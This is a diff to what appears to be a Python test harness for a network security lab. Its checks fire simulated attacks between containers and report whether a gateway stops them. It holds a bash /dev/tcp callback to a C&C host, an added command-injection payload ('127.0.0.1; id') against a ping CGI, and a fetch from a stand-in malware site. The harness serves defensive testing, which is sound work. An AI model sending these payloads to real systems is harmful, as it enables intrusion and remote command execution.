@@ -39,7 +39,7 @@ class Rows:
         self.w.run('sk-cam', 'bash', '-c', f'exec 3<>/dev/tcp/{CNC}/4444 && echo bot-here >&3', timeout=4)
         seen = self.s.packets('cnc') - packets
         if self.s.cnc_lines() > before:
-            return True, f'C&C server got the bot\'s greeting'
+            return True, 'C&C server got the greeting of the bot'
         return seen > 0, 'no packet reached the C&C server' if not seen else f'{seen} packets'
 
     def cnc_domain(self):
@@ -86,6 +86,12 @@ class Rows:
             return True, f'the shell answers {uid.group(0)}'
         reached = self.s.panel_bytes('sk-weak') > before
         return reached, 'service saw the bytes' if reached else 'dropped inline, never delivered'
+
+    def exploit_farm(self):
+        """The same exploit through the gateway against the farm monitor."""
+        out = self.w.run('sk-inet', *CURL, '--interface', ATTACKER, '-d', 'host=127.0.0.1%3B id',
+                         f'http://{FARM}/cgi-bin/ping.cgi')
+        return 'uid=' in out.stdout, ''
 
     def weak_browses(self):
         bad = self.w.run('sk-weak', *CURL, '--resolve', f'malware.example:80:{MALWEB}', 'http://malware.example/').stdout
